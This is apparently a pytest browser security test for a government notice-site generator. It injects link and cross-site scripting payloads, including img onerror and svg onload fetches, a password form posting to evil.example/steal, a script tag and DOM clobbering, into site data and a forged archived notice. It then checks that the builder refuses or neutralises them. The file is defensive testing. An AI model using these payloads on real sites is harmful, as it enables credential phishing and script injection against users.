"""A site built from hostile data and a forged archive, read in Chromium.

The complete valid case gets addresses that only look like the site's (``//host``,
``/\\host``, ``\\\\host``, a tab between the slashes) and cross-site payloads in every
free-text field; notice version 1.0 is published, 1.1 follows, and then the archived text
of 1.0 is rewritten as an attacker would (an ``<img onerror>``, an ``<iframe>``, a password
``<form>``, an ``<svg onload>``, each reaching for another host), with its lock entry and
hash chain recomputed.

``check`` refuses all of it. With the refusing rules switched off, the build still
publishes nothing active: every page is visited at phone and desktop size, no request
leaves the local server, no script of the payloads runs, and every link on every page lands
on the site's own host or is an ``https:``, ``http:`` or ``mailto:`` link written as one.
"""

from __future__ import annotations

import datetime as dt
import html
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from govportal.changes.fingerprint import fingerprint, wording_fingerprint
from govportal.changes.lock import load_lock
from govportal.pipeline import checking, settings
from govportal.problems import Problems
from govportal.rules import registry
from govportal.rules.declared import OUTPUT
from govportal.text.safe_markdown import leaves_site
from tests.conftest import CASES, make_site, mkdocs_build
from tests.security.inject import inject
from tests.security.payloads import XSS_PAYLOADS
from tests.security.scan import scan_html

from . import helpers

pytestmark = pytest.mark.browser

LINK_PAYLOADS = [
    "[sign in](//evil.example/login)",
    "[sign in](/\\evil.example/login)",
    "[sign in](\\\\evil.example/login)",
    "[sign in](/\t/evil.example/login)",
    "[sign in]( //evil.example/login)",
    "<a href=\"//evil.example/x\">x</a>",
    "<a href=\"/&#92;evil.example/x\">x</a>",
    "[ref link][r]\n\n[r]: //evil.example/ref",
    "<//evil.example/autolink>",
    "[fine](/privacy/) and [also fine](https://example.com/policy)",
]
ARCHIVE_PAYLOADS = [
    '<img src="http://evil.example/pixel.png" onerror="fetch(\'http://evil.example/x\')">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<form action="https://evil.example/steal" method="post"><input type="password" '
    'name="pw"><button>Sign in</button></form>',
    '<svg onload="fetch(\'http://evil.example/svg\')"><circle r="4"/></svg>',
    '<a href="//evil.example/archive">Read more</a>',
    '<p id="__config" class="md-header">clobber</p>',
    "[x](javascript:alert(1)){: onclick=\"alert(1)\" }",
    "<script>fetch('http://evil.example/script')</script>",
]
# The output gate is off too: a section whose only text was a script is empty once
# sanitised, which the gate rightly reports; this site tests what reaches the browser.
RULES_OFF = ", ".join(f"{r}: 'off'" for r in sorted({*registry.all_rules(), *OUTPUT}))
# The internal edition: the payloads are in internal-only fields too, and the same payload in a
# public and an internal field is what the public edition's scan rightly refuses.
OPTIONS = (f"      today: '2026-11-22'\n      edition: internal\n      severities: "
           f"{{{RULES_OFF}, notice.archive-unsafe-markup: 'off'}}\n")
ALLOWED_SCHEMES = {"https", "http", "mailto"}
FOREIGN = {"img", "iframe", "form", "input", "svg", "object", "embed", "button"}


def _lock(project: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "govportal.cli", "lock"], cwd=project,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile-site")
    data = tmp / "data"
    shutil.copytree(CASES / "valid" / "complete", data)
    counts = inject(data, LINK_PAYLOADS + XSS_PAYLOADS[:12])
    assert sum(counts.values()) > 100, counts
    project = make_site(tmp, data)
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "  - govportal:\n", "  - govportal:\n" + OPTIONS, 1), encoding="utf-8")
    _lock(project)
    program = project / "data" / "programs" / "learning.yaml"
    text = program.read_text(encoding="utf-8").replace("version: '1.0'", "version: '1.1'", 1)
    text = text.replace("effective: '2026-01-15'", "effective: '2026-06-01'", 1)
    text = text.replace("  changelog:\n", "  changelog:\n  - version: '1.1'\n    date: "
                        "'2026-06-01'\n    summary: A second version.\n", 1)
    program.write_text(text, encoding="utf-8")
    _lock(project)
    archived = project / "notices-archive" / "learning" / "1.0.md"
    forged = archived.read_text(encoding="utf-8").replace(
        "\n## ", "\n" + "\n\n".join(ARCHIVE_PAYLOADS) + "\n\n## ", 1)
    archived.write_text(forged, encoding="utf-8")
    lock = load_lock(project / "notices.lock.json", "notices.lock.json", Problems())
    entry = lock.notices["learning"]["1.0"]
    entry.sha256, entry.wording = fingerprint(forged), wording_fingerprint(forged)
    lock.save()  # the chain recomputed, as an attacker with the package can
    return project


def test_the_check_refuses_the_forged_archive_and_the_links(hostile_project: Path) -> None:
    project = settings.load(hostile_project / "mkdocs.yml")
    day = dt.date(2026, 11, 22)
    data_rules = checking.check_project(project, registry.Options(today=day))
    assert [p.rule for p in data_rules.problems].count("content.unsafe-markup") >= 10
    # With the data refusal off, the change control still refuses the archive.
    off = {k: v for k, v in project.options["severities"].items()
           if k != "notice.archive-unsafe-markup"}
    quiet = settings.build_options(off, "2026-11-22")
    history = [p for p in checking.check_project(project, quiet).problems
               if p.rule == "notice.archive-unsafe-markup"]
    assert [(p.location.file, p.message) for p in history] == [
        ("notices-archive/learning/1.0.md", "the archived text of notice 'learning' version "
         "1.0 holds the HTML element <img>, which the notice templates never write and is "
         "never published")]


@pytest.fixture(scope="module")
def hostile_site(hostile_project: Path) -> Path:
    result = mkdocs_build(hostile_project, lock=False)
    assert result.returncode == 0, result.stderr[-3000:]
    return hostile_project / "site"


def test_the_archived_page_holds_nothing_active(hostile_site: Path) -> None:
    page = (hostile_site / "notices" / "learning" / "v1.0" / "index.html").read_text("utf-8")
    article = page[page.index("<article"):page.index("</article>")]
    scan = scan_html(article)
    assert "Read more" in article and "clobber" in article  # the text stays, inert
    assert scan.handlers == [] and scan.bad_urls == [] and scan.scripts == set()
    assert not scan.tags & FOREIGN, scan.tags & FOREIGN
    targets = re.findall(r'(?:href|src|action)="([^"]*)"', article)
    assert len(targets) > 20
    assert [t for t in targets if leaves_site(html.unescape(t))] == []
    assert "evil.example/frame" not in article and "evil.example/steal" not in article
    assert 'id="__config"' not in article and "md-header" not in article


def _link_problems(page: helpers.Page, base_url: str) -> list[str]:
    site_host = urlsplit(base_url).netloc
    pairs = page.eval_on_selector_all(
        "a[href]", "links => links.map(a => [a.getAttribute('href'), a.href])")
    out = []
    for written, resolved in pairs:
        target = urlsplit(resolved)
        explicit = urlsplit(written.strip()).scheme.lower()
        if target.scheme in ("http", "https") and target.netloc == site_host:
            continue
        if explicit in ALLOWED_SCHEMES and target.scheme in ALLOWED_SCHEMES:
            continue
        out.append(f"{written!r} -> {resolved}")
    return out


@pytest.mark.parametrize("viewport", sorted(helpers.VIEWPORTS))
def test_every_link_lands_on_the_site_or_an_allowed_scheme(
        hostile_site: Path, chromium_browser: helpers.Browser, viewport: str) -> None:
    pages = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*.html"))
    assert len(pages) >= 20
    problems: list[str] = []
    checked = 0
    with helpers.serve(hostile_site) as base_url:
        context = helpers.new_context(chromium_browser, viewport)
        try:
            page = helpers.new_page(context)
            for rel in pages:
                url = base_url + rel.removesuffix("index.html")
                helpers.visit(page, url)
                problems += [f"{rel}: blocked request to {u}"
                             for u in helpers.blocked_requests(page)]
                problems += [f"{rel}: link {p}" for p in _link_problems(page, base_url)]
                checked += page.eval_on_selector_all("a[href]", "links => links.length")
            helpers.visit(page, base_url + "notices/learning/v1.0/")
            helpers.screenshot(page, f"{viewport}/hostile-archived-version")
        finally:
            context.close()
    assert checked > 500
    assert problems == []
